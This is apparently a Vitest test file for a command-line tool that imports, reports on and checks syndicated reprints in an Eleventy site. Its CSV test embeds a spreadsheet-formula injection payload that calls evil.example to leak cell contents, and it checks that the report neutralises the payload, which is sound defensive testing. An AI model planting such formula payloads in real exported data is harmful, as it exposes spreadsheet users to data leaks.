import { describe, expect, it } from "vitest";
import { spawnSync } from "node:child_process";
import { createHash } from "node:crypto";
import { cpSync, existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, realpathSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import matter from "gray-matter";
import { cli, eleventyConfigFor, fixture, pluginConfig, ROOT } from "../helpers.js";

const SEED = existsSync(join(ROOT, "..", "shared", "seed", "rferl-putin-talks.txt"))
  ? join(ROOT, "..", "shared", "seed", "rferl-putin-talks.txt")
  : join(ROOT, "tests", "fixtures", "rferl-putin-talks.txt");
const DEMO_REPRINT = "src/reprints/putin-immediate-talks.md";
const URL = "https://www.rferl.org/a/putin-immediate-talks-nato-security-guarantees/31609362.html";
const TITLE = "Putin Reiterates Need For 'Immediate' Talks With NATO On Security Guarantees";

/** A copy of the demo site in a temporary folder, built with its own build script. */
function demoCopy() {
  const dir = mkdtempSync(join(tmpdir(), "syndication-import-"));
  for (const entry of ["package.json", ".eleventy.ts", "syndication.lock.json", "src", "_includes", "plugins"]) {
    cpSync(join(ROOT, entry), join(dir, entry), { recursive: true });
  }
  symlinkSync(join(ROOT, "node_modules"), join(dir, "node_modules"), "dir");
  const build = () => {
    const run = spawnSync("npm", ["run", "build"], { cwd: dir, encoding: "utf8" });
    expect(run.status).toBe(0);
    return readFileSync(join(dir, "_site", "reprints", "2021", "12", "putin-immediate-talks", "index.html"), "utf8");
  };
  return { dir, build };
}

describe("import", () => {
  it("turns the seed text into a reprint that builds to the same page as the demo's", () => {
    const demo = demoCopy();
    const original = demo.build();
    const args = ["import", SEED, "--url", URL, "--title", TITLE, "--published", "2021-12-14", "--author", "RFE/RL"];
    args.push("--out", DEMO_REPRINT);
    // The demo's own file is there: without --force nothing is overwritten.
    const refused = cli(args, demo.dir);
    expect(refused.status).toBe(1);
    expect(refused.stderr).toContain(`${DEMO_REPRINT} already exists; give --force to overwrite it`);
    expect(readFileSync(join(demo.dir, DEMO_REPRINT), "utf8")).toBe(readFileSync(join(ROOT, DEMO_REPRINT), "utf8"));

    const run = cli([...args, "--force"], demo.dir);
    expect(run.stderr).toBe("");
    expect(run.status).toBe(0);
    expect(run.stdout.trim()).toBe(DEMO_REPRINT);
    const written = matter(readFileSync(join(demo.dir, DEMO_REPRINT), "utf8"), {});
    // The credit line names RFE/RL, a preset: the key is written, and the preset does the rest.
    expect(written.data.syndication).toMatchObject({
      source: "rferl",
      licence: "permission",
      originalUrl: URL,
    });
    // The credit line is the plugin's to write: it is not in the body.
    expect(written.content).not.toContain("originally published by");
    expect(demo.build()).toBe(original);
  });

  /** An empty site in a temporary folder, the command run there. */
  const emptySite = () => {
    const dir = mkdtempSync(join(tmpdir(), "syndication-import-"));
    writeFileSync(join(dir, "eleventy.config.mjs"), eleventyConfigFor('{ "lockFile": false }'));
    return { dir, run: (args: string[]) => cli(args, dir) };
  };

  it("refuses to write a reprint that would fail check, and says which flag is missing", () => {
    const site = emptySite();
    const run = site.run(["import", SEED, "--title", "T", "--out", "x.md"]);
    expect(run.status).toBe(1);
    expect(run.stderr).toContain("not written, since the reprint would not pass check:");
    expect(run.stderr).toContain("syndication.originalUrl  is missing: give --url");
    expect(existsSync(join(site.dir, "x.md"))).toBe(false);
  });

  it("reads a Creative Commons credit line, and asks for the licence when the line does not name one", () => {
    const site = emptySite();
    writeFileSync(join(site.dir, "named.txt"), "This article is republished from The Conversation under a CC BY-ND 4.0 license.\nFirst {{ paragraph }}.\n\nSecond.\n");
    // The Conversation's rules: authors with their institutions, and its page counter.
    const bare = site.run(["import", "named.txt", "--url", "https://theconversation.com/x-1", "--out", "named.md"]);
    expect(bare.status).toBe(1);
    expect(bare.stderr).toContain('syndication.author  is missing, and The Conversation asks that authors be credited with their institutions: give --author "Name (Institution)"');
    expect(bare.stderr).toContain("syndication.pixel  is missing, and The Conversation requires its tracking pixel on every reprint: give --pixel");
    const pixel = "https://counter.theconversation.com/content/1/count.gif";
    const run = site.run(["import", "named.txt", "--url", "https://theconversation.com/x-1", "--author", "Jane Sample (University of Exampleton)", "--pixel", pixel, "--out", "named.md"]);
    expect(run.stderr).toBe("");
    expect(run.status).toBe(0);
    const written = matter(readFileSync(join(site.dir, "named.md"), "utf8"), {});
    // The digest of the text as received (SHA-256, base64, as in Subresource Integrity).
    const digest = `sha256-${createHash("sha256").update("First {{ paragraph }}.\n\nSecond.").digest("base64")}`;
    // The Conversation is a preset: its key is written.
    expect(written.data.syndication).toEqual({
      source: "the-conversation",
      originalUrl: "https://theconversation.com/x-1",
      licence: "CC-BY-ND-4.0",
      author: { name: "Jane Sample", affiliation: "University of Exampleton" },
      pixel,
      digest,
    });
    // Text that looks like a template tag stays text.
    expect(written.data.templateEngineOverride).toBe("md");
    expect(written.content.trim()).toBe("First {{ paragraph }}.\n\nSecond.");

    // A publisher with no preset, whose line names no particular licence. (The Conversation's
    // preset would supply CC BY-ND 4.0.)
    writeFileSync(join(site.dir, "unnamed.txt"), "This article is republished from Example Journal under a Creative Commons license. Read the original article.\nText.\n");
    const refused = site.run(["import", "unnamed.txt", "--url", "https://journal.example/x-2", "--out", "unnamed.md"]);
    expect(refused.status).toBe(1);
    expect(refused.stderr).toContain("syndication.licence  is missing: give --licence (the credit line names no particular Creative Commons licence)");
  });
});

describe("report", () => {
  const base = ["report", fixture("lifecycle"), "--config", "tests/fixtures/lifecycle.config.ts", "--now", "2025-06-01"];

  it("prints one row per reprint as a table", () => {
    const run = cli(base);
    expect(run.status).toBe(0);
    const lines = run.stdout.trimEnd().split("\n");
    expect(lines[0]).toMatch(/^FILE\s+SOURCE\s+LICENCE\s+ORIGINAL\s+STATUS\s+EXPIRES\s+ADDRESS$/);
    expect(lines.slice(1).map((l) => l.split(/\s{2,}/))).toEqual([
      ["tests/fixtures/lifecycle/reprints/expired.md", "Example Wire", "with permission", "2024-12-01", "expired", "2025-01-01", "/reprints/2024/12/expired/"],
      ["tests/fixtures/lifecycle/reprints/live.md", "Example Wire", "with permission", "2024-01-01", "live", "2030-01-01", "/reprints/2024/01/live/"],
      ["tests/fixtures/lifecycle/reprints/soon.md", "Example Wire", "with permission", "2025-05-01", "live", "2025-06-10", "/reprints/2025/05/soon/"],
      ["tests/fixtures/lifecycle/reprints/thirty-days.md", "Thirty-Day Wire", "with permission", "2025-04-01", "expired", "2025-05-01", "/reprints/2025/04/thirty-days/"],
      ["tests/fixtures/lifecycle/reprints/withdrawn.md", "Example Wire", "with permission", "2025-03-01", "withdrawn", "-", "/reprints/2025/03/withdrawn/"],
    ]);
  });

  it("lists only the reprints that end soon with --expiring, as JSON or CSV", () => {
    const json = cli([...base, "--expiring", "30d", "--format", "json"]);
    expect(JSON.parse(json.stdout)).toEqual([
      {
        file: "tests/fixtures/lifecycle/reprints/soon.md",
        source: "Example Wire",
        licence: "with permission",
        published: "2025-05-01",
        status: "live",
        expires: "2025-06-10",
        address: "/reprints/2025/05/soon/",
      },
    ]);
    const csv = cli([...base, "--expiring", "P30D", "--format", "csv"]);
    expect(csv.stdout).toBe(
      "file,source,licence,published,status,expires,address\r\n" +
        "tests/fixtures/lifecycle/reprints/soon.md,Example Wire,with permission,2025-05-01,live,2025-06-10,/reprints/2025/05/soon/\r\n",
    );
    expect(cli([...base, "--expiring", "1d", "--format", "json"]).stdout.trim()).toBe("[]");
  });
});

describe("the command line", () => {
  it("has --help on every command, with an example and the exit codes, exiting 0", () => {
    for (const command of [[], ["check"], ["import"], ["report"], ["forget"]]) {
      const run = cli([...command, "--help"]);
      expect(run.status).toBe(0);
      expect(run.stdout).toMatch(/^Usage: eleventy-syndication/);
      expect(run.stdout).toMatch(/\nExamples?:\n  \$ npx eleventy-syndication /);
      expect(run.stdout).toContain("Exit codes:\n  0  done");
      expect(run.stdout).toContain("\n  2  bad usage");
    }
  });

  it("says its version", () => {
    const { version } = JSON.parse(readFileSync(join(ROOT, "package.json"), "utf8")) as { version: string };
    for (const flag of ["--version", "-v"]) {
      const run = cli([flag]);
      expect(run.stdout.trim()).toBe(version);
      expect(run.status).toBe(0);
    }
  });

  it("exits 2 on bad usage, saying what is wrong", () => {
    expect(cli(["publish"]).status).toBe(2);
    const format = cli(["check", "--format", "xml"]);
    expect(format.status).toBe(2);
    expect(format.stderr).toContain("xml");
    const missing = cli(["check", "no/such/folder", "--config", pluginConfig()]);
    expect(missing.status).toBe(2);
    expect(missing.stderr).toContain("input folder no/such/folder does not exist");
    expect(cli(["report", "--expiring", "soon"]).stderr).toContain('--expiring "soon" is not a length of time');
    expect(cli(["import"]).status).toBe(2);
  });

  it("checks the demo with its config: fine, exit 0", () => {
    const run = cli(["check"]);
    // The RFE/RL article and six samples, two of which have ended (they are checked all the same).
    expect(run.stdout.trim()).toBe("7 reprints checked: no problems.");
    expect(run.status).toBe(0);
  });

  it("warns about reprints that end soon when checking", () => {
    const run = cli(["check", fixture("lifecycle"), "--config", "tests/fixtures/lifecycle.config.ts", "--now", "2025-06-01"]);
    expect(run.status).toBe(0);
    expect(run.stdout).toContain("eleventy-plugin-syndication: warning: tests/fixtures/lifecycle/reprints/soon.md:8  syndication.expires  ends the right to show it on 10 June 2025 (10 days)");
    expect(run.stdout).toMatch(/\[expiring-soon\]\n5 reprints checked: no problems\.\n$/);
  });
});

describe("the command line on a site with surprises", () => {
  /** A throwaway site with the given files, and the command run in it. */
  const siteWith = (files: Record<string, string>) => {
    const dir = mkdtempSync(join(tmpdir(), "syndication-cli-"));
    for (const [path, text] of Object.entries(files)) {
      mkdirSync(dirname(join(dir, path)), { recursive: true });
      writeFileSync(join(dir, path), text);
    }
    return { dir, run: (args: string[]) => cli(args, dir) };
  };
  const reprint = (url: string) => `---\ntitle: T\nsyndication:\n  source: Example Wire\n  originalUrl: ${url}\n  licence: permission\n---\nText.\n`;

  it("reports broken YAML in a reprint as the build does, with its line", () => {
    const site = siteWith({
      "eleventy.config.mjs": eleventyConfigFor('{ "lockFile": false }'),
      "reprints/a.md": reprint("https://w.example/a"),
      "elsewhere.md": "---\ntitle: Elsewhere\nsyndication:\n  source: [Example Wire\n---\nText.\n",
    });
    const run = site.run(["check"]);
    expect(run.status).toBe(1);
    expect(run.stdout).toContain("1 problem in 1 reprint");
    expect(run.stdout).toContain("elsewhere.md:5  front matter  cannot be read: unexpected end of the stream within a flow collection (column 1), correct the YAML between the --- lines  [front-matter-readable]");
  });

  it("stops where Eleventy stops, with its reason on one line: an ordinary page's broken YAML, a data file that is not JSON (exit 1)", () => {
    const page = siteWith({ "eleventy.config.mjs": eleventyConfigFor('{ "lockFile": false }'), "reprints/a.md": reprint("https://w.example/a"), "about.md": "---\ntitle: About\ntitle: Twice\n---\nText.\n" });
    const stopped = page.run(["check"]);
    expect(stopped.status).toBe(1);
    expect(stopped.stdout).toBe("");
    expect(stopped.stderr.trim()).toMatch(/^eleventy-syndication: Eleventy stopped before the reprints could be checked: .*about\.md.*duplicated mapping key/);
    const site = siteWith({ "eleventy.config.mjs": eleventyConfigFor("{}"), "reprints/reprints.11tydata.json": "{ bad", "reprints/a.md": reprint("https://w.example/a") });
    const broken = site.run(["check"]);
    expect(broken.status).toBe(1);
    expect(broken.stderr.trim()).toMatch(/^eleventy-syndication: Eleventy stopped before the reprints could be checked: Having trouble parsing data file \.\/reprints\/reprints\.11tydata\.json: /);
    for (const run of [stopped, broken]) expect(run.stderr).not.toMatch(/^\s+at /m);
  });

  it("says a file given as the folder, a config that is not there or does not add the plugin, is bad usage (exit 2)", () => {
    const site = siteWith({ "eleventy.config.mjs": eleventyConfigFor("{}"), "other.config.mjs": "export default function () {}\n", "reprints/a.md": reprint("https://w.example/a") });
    const file = site.run(["check", "reprints/a.md"]);
    expect(file.status).toBe(2);
    expect(file.stderr.trim()).toBe("eleventy-syndication: reprints/a.md is a file; give the site's input folder");
    const absent = site.run(["check", "-c", "nothing.config.js"]);
    expect([absent.status, absent.stderr.trim()]).toEqual([2, "eleventy-syndication: config file nothing.config.js does not exist"]);
    const without = site.run(["check", "-c", "other.config.mjs"]);
    expect(without.status).toBe(2);
    expect(without.stderr.trim()).toBe(
      "eleventy-syndication: the site's Eleventy config (other.config.mjs) does not add eleventy-plugin-syndication: add it with eleventyConfig.addPlugin, or give the config with --config",
    );
  });

  it("prints only its own report: no Eleventy benchmark warning where a hook of the site is slow", () => {
    // A preprocessor that takes most of the run: Eleventy warns of it ("[11ty] Benchmark …"), even in quiet mode.
    const slow = '  eleventyConfig.addPreprocessor("slow", "*", () => { const end = Date.now() + 400; while (Date.now() < end); });\n';
    const site = siteWith({ "reprints/a.md": reprint("https://w.example/a") });
    const run = site.run(["check", "--config", pluginConfig({ lockFile: false }, slow)]);
    expect([run.status, run.stdout.trim(), run.stderr]).toEqual([0, "1 reprint checked: no problems.", ""]);
  });

  it("says what to do with the syndication.config.json that 0.1 read, which nothing reads now (exit 2)", () => {
    const site = siteWith({ "syndication.config.json": '{ "lockFile": false }', "reprints/a.md": reprint("https://w.example/a") });
    const move = "the command no longer reads syndication.config.json: pass its options to eleventyConfig.addPlugin in the site's Eleventy config, set the folders there, and delete it";
    const given = site.run(["check", "--config", "syndication.config.json"]);
    expect([given.status, given.stderr.trim()]).toEqual([
      2,
      `eleventy-syndication: syndication.config.json is not an Eleventy config (give eleventy.config.js or another config Eleventy loads); ${move}`,
    ]);
    // Left beside a site that has no Eleventy config yet: the usual message, and what to do with the file.
    const left = site.run(["check"]);
    expect(left.status).toBe(2);
    expect(left.stderr.trim()).toMatch(/^eleventy-syndication: the site's Eleventy config \(no config file .*\) does not add eleventy-plugin-syndication: /);
    expect(left.stderr.trim().endsWith(`; ${move}`)).toBe(true);
  });

  it("refuses to import a second reprint of one original, or to write outside the site", () => {
    const site = siteWith({ "eleventy.config.mjs": eleventyConfigFor('{ "lockFile": false }'), "reprints/a.md": reprint("https://w.example/a"), "text.txt": "This story was originally published by Example Wire.\nText.\n" });
    const again = site.run(["import", "text.txt", "--url", "https://W.example/a#x", "--licence", "permission", "--out", "reprints/b.md"]);
    expect(again.status).toBe(1);
    expect(again.stderr).toContain("syndication.originalUrl  is the same as in reprints/a.md (https://W.example/a#x), reprint each original once");
    expect(existsSync(join(site.dir, "reprints", "b.md"))).toBe(false);
    const outside = site.run(["import", "text.txt", "--url", "https://w.example/c", "--licence", "permission", "--out", "../c.md"]);
    expect(outside.status).toBe(2);
    expect(outside.stderr).toContain("--out ../c.md must be a .md file inside the site's input folder (.)");
  });

  it("lists a reprint whose front matter cannot be read as invalid, and refuses a negative window", () => {
    const site = siteWith({
      "eleventy.config.mjs": eleventyConfigFor('{ "lockFile": false }'),
      "reprints/a.md": reprint("https://w.example/a"),
      "reprints/b.md": "---\ntitle: [unclosed\n---\nText.\n",
    });
    const rows = JSON.parse(site.run(["report", "--format", "json"]).stdout);
    expect(rows.map((r: { file: string; status: string }) => `${r.file} ${r.status}`)).toEqual(["reprints/a.md live", "reprints/b.md invalid"]);
    expect(site.run(["report", "--expiring", "P-30D"]).status).toBe(2);
  });
});

describe("import refuses input and places it must not write", () => {
  const TEXT = "This story was originally published by Example Wire.\nText.\n";
  const FLAGS = ["--url", "https://w.example/c", "--licence", "permission"];
  /** A site with its includes, data and output folders, and a folder outside it. */
  const site = () => {
    const dir = mkdtempSync(join(tmpdir(), "syndication-import-out-"));
    for (const folder of ["site/reprints", "site/_includes", "site/_data", "_site", "elsewhere"]) mkdirSync(join(dir, folder), { recursive: true });
    writeFileSync(join(dir, "eleventy.config.mjs"), eleventyConfigFor('{ "input": "site", "lockFile": false }'));
    writeFileSync(join(dir, "text.txt"), TEXT);
    return { dir, run: (args: string[]) => cli(args, dir) };
  };

  it("refuses a text that is empty, only white space, a credit line alone or not text, writing nothing", () => {
    const s = site();
    const cases: Array<[string, Buffer | string, string]> = [
      ["empty.txt", "", "empty.txt: not imported: it is empty: there is no article to import."],
      ["blank.txt", "  \n\n\t\n", "blank.txt: not imported: it is only white space: there is no article to import."],
      ["credit.txt", "This story was originally published by Example Wire.\n\n", "credit.txt: not imported: it has a credit line and no article after it."],
      ["image.txt", Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0x00, 0x00, 0x00, 0x0d, 0x49, 0x48, 0x44, 0x52, 0xff]), "image.txt: not imported: it is not UTF-8 text (a binary file, or another encoding): save the article as UTF-8 text."],
      ["nul.txt", "Text\u0000with a NUL.\n", "nul.txt: not imported: it is not plain text: it holds U+0000, a control character no article has (a binary file?)."],
    ];
    for (const [name, content, message] of cases) {
      writeFileSync(join(s.dir, name), content);
      const run = s.run(["import", name, ...FLAGS, "--out", `site/reprints/${name}.md`]);
      expect(run.stderr.trim()).toBe(message);
      expect(run.status).toBe(1);
    }
    expect(readdirSync(join(s.dir, "site", "reprints"))).toEqual([]);
  });

  it("refuses --out in the includes, data or output folder (exit 2)", () => {
    const s = site();
    for (const [out, words] of [
      ["site/_includes/x.md", "is in the includes folder (site/_includes), whose files the build does not make into pages"],
      ["site/_data/x.md", "is in the data folder (site/_data), whose files the build does not make into pages"],
    ]) {
      const run = s.run(["import", "text.txt", ...FLAGS, "--out", out!]);
      expect(run.stderr.trim()).toBe(`eleventy-syndication: --out ${out} ${words}: give a file among the site's pages`);
      expect(run.status).toBe(2);
    }
    // The output folder inside the input folder, as some sites have it.
    writeFileSync(join(s.dir, "eleventy.config.mjs"), eleventyConfigFor('{ "input": "site", "output": "site/_site", "lockFile": false }'));
    const output = s.run(["import", "text.txt", ...FLAGS, "--out", "site/_site/x.md"]);
    expect(output.stderr.trim()).toBe("eleventy-syndication: --out site/_site/x.md is in the output folder (site/_site), which the build overwrites: give a file among the site's pages");
    expect(output.status).toBe(2);
    expect(existsSync(join(s.dir, "site", "_includes", "x.md"))).toBe(false);
  });

  it("refuses --out that leads out of the site through a link, or is a link, even with --force", () => {
    const s = site();
    // A folder of the site that is a link to a folder outside it.
    symlinkSync(join(s.dir, "elsewhere"), join(s.dir, "site", "reprints", "linked"));
    const through = s.run(["import", "text.txt", ...FLAGS, "--out", "site/reprints/linked/x.md"]);
    expect(through.stderr.trim()).toBe(
      `eleventy-syndication: --out site/reprints/linked/x.md must be a .md file inside the site's input folder (site), where the build will find it (it leads to ${join(realpathSync(s.dir), "elsewhere", "x.md")})`,
    );
    expect(through.status).toBe(2);
    // A file of the site that is a link to a file outside it: never written through.
    writeFileSync(join(s.dir, "elsewhere", "config.js"), "the site's config");
    symlinkSync(join(s.dir, "elsewhere", "config.js"), join(s.dir, "site", "reprints", "x.md"));
    const forced = s.run(["import", "text.txt", ...FLAGS, "--out", "site/reprints/x.md", "--force"]);
    expect(forced.status).toBe(2);
    // Resolved, the link leads out of the site; a link inside it is refused as a link.
    expect(forced.stderr).toContain("must be a .md file inside the site's input folder");
    symlinkSync("other.md", join(s.dir, "site", "reprints", "inner.md"));
    writeFileSync(join(s.dir, "site", "reprints", "other.md"), "mine");
    const inner = s.run(["import", "text.txt", ...FLAGS, "--out", "site/reprints/inner.md", "--force"]);
    expect(inner.stderr.trim()).toBe("eleventy-syndication: --out site/reprints/inner.md is a symbolic link; import writes only to a real file, never through a link");
    expect(inner.status).toBe(2);
    expect(readFileSync(join(s.dir, "elsewhere", "config.js"), "utf8")).toBe("the site's config");
    expect(readFileSync(join(s.dir, "site", "reprints", "other.md"), "utf8")).toBe("mine");
    expect(readdirSync(join(s.dir, "elsewhere"))).toEqual(["config.js"]);
  });

  it("writes into an input folder that is itself a link, and replaces a file only with --force", () => {
    const s = site();
    // The input folder is a link to the real one (a checkout under a linked path is common).
    symlinkSync(join(s.dir, "site"), join(s.dir, "linked"));
    writeFileSync(join(s.dir, "eleventy.config.mjs"), eleventyConfigFor('{ "input": "linked", "lockFile": false }'));
    const run = s.run(["import", "text.txt", ...FLAGS, "--out", "linked/reprints/c.md"]);
    expect(run.stderr).toBe("");
    expect(run.status).toBe(0);
    const first = readFileSync(join(s.dir, "site", "reprints", "c.md"), "utf8");
    expect(first).toContain("https://w.example/c");
    writeFileSync(join(s.dir, "other.txt"), "This story was originally published by Example Wire.\nOther text.\n");
    const again = s.run(["import", "other.txt", ...FLAGS, "--out", "linked/reprints/c.md"]);
    expect(again.status).toBe(1);
    expect(readFileSync(join(s.dir, "site", "reprints", "c.md"), "utf8")).toBe(first);
    const forced = s.run(["import", "other.txt", ...FLAGS, "--out", "linked/reprints/c.md", "--force"]);
    expect(forced.stderr).toBe("");
    expect(readFileSync(join(s.dir, "site", "reprints", "c.md"), "utf8")).toContain("Other text.");
    expect(readdirSync(join(s.dir, "site", "reprints"))).toEqual(["c.md"]);
  });
});

describe("report as CSV", () => {
  it("neutralises cells a spreadsheet would run as formulas", () => {
    const dir = mkdtempSync(join(tmpdir(), "syndication-csv-"));
    mkdirSync(join(dir, "reprints"));
    writeFileSync(join(dir, "eleventy.config.mjs"), eleventyConfigFor('{ "lockFile": false }'));
    writeFileSync(
      join(dir, "reprints", "-x.md"),
      '---\ntitle: T\nsyndication:\n  source: \'=HYPERLINK("https://evil.example/?"&A1,"Click")\'\n  originalUrl: https://w.example/a\n  licence: { name: "@SUM(1+1)" }\n  published: 2024-01-02\n---\nText.\n',
    );
    const run = cli(["report", "--format", "csv"], dir);
    expect(run.status).toBe(0);
    expect(run.stdout).toBe(
      "file,source,licence,published,status,expires,address\r\n" +
        `reprints/-x.md,"'=HYPERLINK(""https://evil.example/?""&A1,""Click"")","'@SUM(1+1)",2024-01-02,live,,/reprints/2024/01/-x/\r\n`,
    );
  });
});

describe("the exit codes", () => {
  it("report: 1 when a data file cannot be read (nothing is listed), as the README says", () => {
    const dir = mkdtempSync(join(tmpdir(), "syndication-report-exit-"));
    mkdirSync(join(dir, "reprints"));
    writeFileSync(join(dir, "eleventy.config.mjs"), eleventyConfigFor('{ "lockFile": false }'));
    writeFileSync(join(dir, "reprints", "reprints.11tydata.json"), "{ bad");
    writeFileSync(join(dir, "reprints", "a.md"), "---\ntitle: A\n---\nText.\n");
    const run = cli(["report"], dir);
    expect(run.status).toBe(1);
    expect(run.stdout).toBe("");
    expect(run.stderr).toMatch(/^eleventy-syndication: Eleventy stopped before the reprints could be checked: Having trouble parsing data file \.\/reprints\/reprints\.11tydata\.json: /);
  });
});

describe("forget", () => {
  const reprint = (name: string) => `---\ntitle: ${name}\nsyndication:\n  source: Example Wire\n  originalUrl: https://w.example/${name}\n  licence: permission\n---\nText.\n`;
  /** A site whose lock records two reprints, a and b. */
  const site = () => {
    const dir = mkdtempSync(join(tmpdir(), "syndication-forget-"));
    mkdirSync(join(dir, "reprints"));
    writeFileSync(join(dir, "eleventy.config.mjs"), eleventyConfigFor("{}"));
    writeFileSync(join(dir, "reprints", "a.md"), reprint("a"));
    writeFileSync(join(dir, "reprints", "b.md"), reprint("b"));
    const lock = {
      version: 1,
      reprints: {
        "https://w.example/a": { url: "/reprints/a/", file: "reprints/a.md" },
        "https://w.example/b": { url: "/reprints/b/", file: "reprints/b.md", previousUrls: ["/old-b/"] },
      },
    };
    writeFileSync(join(dir, "syndication.lock.json"), `${JSON.stringify(lock, null, 2)}\n`);
    return { dir, run: (args: string[]) => cli(args, dir), lock: () => readFileSync(join(dir, "syndication.lock.json"), "utf8") };
  };

  it("drops a deleted reprint that was never deployed, as the error its deletion causes says", () => {
    const s = site();
    rmSync(join(s.dir, "reprints", "b.md"));
    const check = s.run(["check"]);
    expect(check.status).toBe(1);
    expect(check.stdout).toContain("drop it from the lock with npx eleventy-syndication forget /reprints/b/");
    const run = s.run(["forget", "/reprints/b/"]);
    expect(run.stderr).toBe("");
    expect(run.status).toBe(0);
    expect(run.stdout).toBe("syndication.lock.json: forgot /reprints/b/ (reprints/b.md, a reprint of https://w.example/b), and its redirects from /old-b/.\n");
    expect(JSON.parse(s.lock()).reprints).toEqual({ "https://w.example/a": { url: "/reprints/a/", file: "reprints/a.md" } });
    expect(s.run(["check"]).status).toBe(0);
    expect(readdirSync(s.dir).sort()).toEqual(["eleventy.config.mjs", "reprints", "syndication.lock.json"]);
  });

  it("says when the reprint is still there, and drops nothing when a name matches no entry", () => {
    const s = site();
    const kept = s.run(["forget", "reprints/a.md"]);
    expect(kept.stdout).toContain("reprints/a.md is still there: the next build records it again, at the address it has then.");
    const before = s.lock();
    const typo = s.run(["forget", "https://w.example/b", "/reprints/nope/"]);
    expect(typo.stderr.trim()).toBe('eleventy-syndication: no entry of syndication.lock.json has the address, original URL or file "/reprints/nope/"; nothing was dropped.');
    expect(typo.status).toBe(1);
    expect(s.lock()).toBe(before);
  });

  it("refuses a lock it cannot use, with the lock's problems or the file's cause (exit 1), and no lock at all (exit 2)", () => {
    const s = site();
    writeFileSync(join(s.dir, "syndication.lock.json"), '{ "version": 1, "reprints": { "https://w.example/a": { "url": "../x", "file": "a.md" } } }');
    const bad = s.run(["forget", "/reprints/a/"]);
    expect(bad.status).toBe(1);
    expect(bad.stderr).toContain('syndication.lock.json:1  url  "../x" does not start with /');
    rmSync(join(s.dir, "syndication.lock.json"));
    mkdirSync(join(s.dir, "syndication.lock.json"));
    const folder = s.run(["forget", "/reprints/a/"]);
    expect(folder.stderr.trim()).toBe("eleventy-syndication: syndication.lock.json cannot be read: it is a folder, not a file (EISDIR)");
    expect(folder.status).toBe(1);
    writeFileSync(join(s.dir, "eleventy.config.mjs"), eleventyConfigFor('{ "lockFile": false }'));
    expect(s.run(["forget", "/reprints/a/"]).status).toBe(2);
  });
});
